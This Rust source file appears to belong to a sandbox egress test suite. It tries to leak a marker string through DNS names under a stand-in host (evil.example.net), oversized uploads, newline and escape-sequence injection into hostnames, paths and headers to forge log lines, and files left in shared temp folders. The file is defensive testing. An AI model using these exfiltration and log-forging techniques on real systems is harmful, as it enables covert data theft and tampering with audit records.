//! Attempts to leak data without a connection of their own: in names, in allowed requests, in what is recorded.

use std::fs;

use super::client::{RawClient, connect_tls};
use super::{AttemptResult, EgressTargets, ProbeAttempt, client_attempt, new_attempt};

/// The data that is to leak.
pub(crate) const PAYLOAD: &str = "c4f3d00d5ec7e7";
/// The beginning of a forged line.
pub(crate) const FORGED_LINE_START: &str = "{\"forged\":";
/// How many bytes are sent where fewer are allowed.
const UPLOAD_BYTES: usize = 4 << 20;
const DROP_FOLDERS: [&str; 3] = ["/dev/shm", "/tmp", "/var/tmp"];

pub(super) fn attempts(id: u16, aims: &EgressTargets) -> Vec<ProbeAttempt> {
    match id {
        125 => lookup_attempts(aims),
        126 => upload_attempts(aims),
        128 => forged_line_attempts(aims),
        130 => vec![new_attempt("left in shared places", leave_for_others)],
        _ => Vec::new(),
    }
}

/// Looks up names that contain data. The resolver sees whether a query for them arrived.
fn lookup_attempts(aims: &EgressTargets) -> Vec<ProbeAttempt> {
    let names = [
        format!("{PAYLOAD}.evil.example.net"),
        format!("{PAYLOAD}.allowed.example.com"),
        format!("{PAYLOAD}.{PAYLOAD}.wild.example.com"),
    ];
    let mut all = Vec::new();
    for name in names {
        let (one, two, three) = (name.clone(), name.clone(), name.clone());
        all.push(client_attempt(format!("GET {name}"), aims, &[], move |client| {
            client.get(&format!("http://{one}/"), "")
        }));
        all.push(client_attempt(format!("CONNECT {name}"), aims, &[], move |client| {
            client.open_tunnel(format!("{two}:443").as_bytes()).map(|_| Vec::new())
        }));
        all.push(client_attempt(format!("SOCKS {name}"), aims, &[], move |client| {
            client.open_socks(three.as_bytes(), 443).map(|_| Vec::new())
        }));
    }
    all
}

/// Uploads more than the policy allows, in one piece and in several.
fn upload_attempts(aims: &EgressTargets) -> Vec<ProbeAttempt> {
    let body = |count: usize| {
        format!(
            "POST http://allowed.example.com/echo/126 HTTP/1.1\r\nHost: allowed.example.com\r\nConnection: close\r\nContent-Length: {count}\r\n\r\n{}",
            "u".repeat(count)
        )
    };
    let whole = body(UPLOAD_BYTES);
    let piece = body(64 << 10);
    vec![
        client_attempt("in one piece", aims, &[], move |client| {
            client.exchange(whole.as_bytes())
        }),
        client_attempt("in many pieces", aims, &[], move |client| {
            for _ in 0..UPLOAD_BYTES / (64 << 10) {
                client.exchange(piece.as_bytes())?;
            }
            Ok(Vec::new())
        }),
        client_attempt("with TLS", aims, &[], |client| {
            let mut stream = connect_tls(
                client.open_tunnel(b"allowed.example.com:443")?,
                "allowed.example.com",
                "http/1.1",
            )?;
            let words = format!(
                "POST /echo/126 HTTP/1.1\r\nHost: allowed.example.com\r\nContent-Length: {UPLOAD_BYTES}\r\n\r\n{}",
                "u".repeat(UPLOAD_BYTES)
            );
            std::io::Write::write_all(&mut stream, words.as_bytes())?;
            super::client::read_answer(&mut stream)
        }),
    ]
}

/// Causes refusals that would write lines of the attacker's own.
fn forged_line_attempts(aims: &EgressTargets) -> Vec<ProbeAttempt> {
    let line = format!("\n{FORGED_LINE_START}\"yes\"}}\n\u{1b}[2J");
    let (name, path, header) = (line.clone(), line.clone(), line);
    vec![
        client_attempt("a name", aims, &[], move |client| {
            let name = format!("evil.example.net{name}");
            client.open_socks(name.as_bytes(), 443).map(|_| Vec::new())
        }),
        client_attempt("a path", aims, &[], move |client| {
            let path: String = path.replace('\n', "%0a").replace('\u{1b}', "\u{9b}");
            client.get(&format!("http://evil.example.net/{path}"), "")
        }),
        client_attempt("a bare path", aims, &[], move |client| {
            let words = format!("GET http://evil.example.net/{header} HTTP/1.1\r\nHost: evil.example.net\r\n\r\n");
            client.exchange(words.as_bytes())
        }),
        client_attempt("a long name", aims, &[], |client| {
            let name = "a.".repeat(120);
            RawClient::open_socks(client, name.as_bytes(), 443).map(|_| Vec::new())
        }),
    ]
}

/// Leaves data where another run could find it, and looks for what another run left.
fn leave_for_others() -> AttemptResult {
    let mut found = Vec::new();
    for place in DROP_FOLDERS {
        let path = format!("{place}/{PAYLOAD}");
        if fs::exists(&path).unwrap_or(false) {
            found.push(path);
        } else {
            // A folder that is not writable carries nothing.
            let _ = fs::write(&path, PAYLOAD);
        }
    }
    if found.is_empty() {
        AttemptResult::WithoutEffect("nothing of another run".to_owned())
    } else {
        AttemptResult::Succeeded(format!("left by another run: {}", found.join(", ")))
    }
}
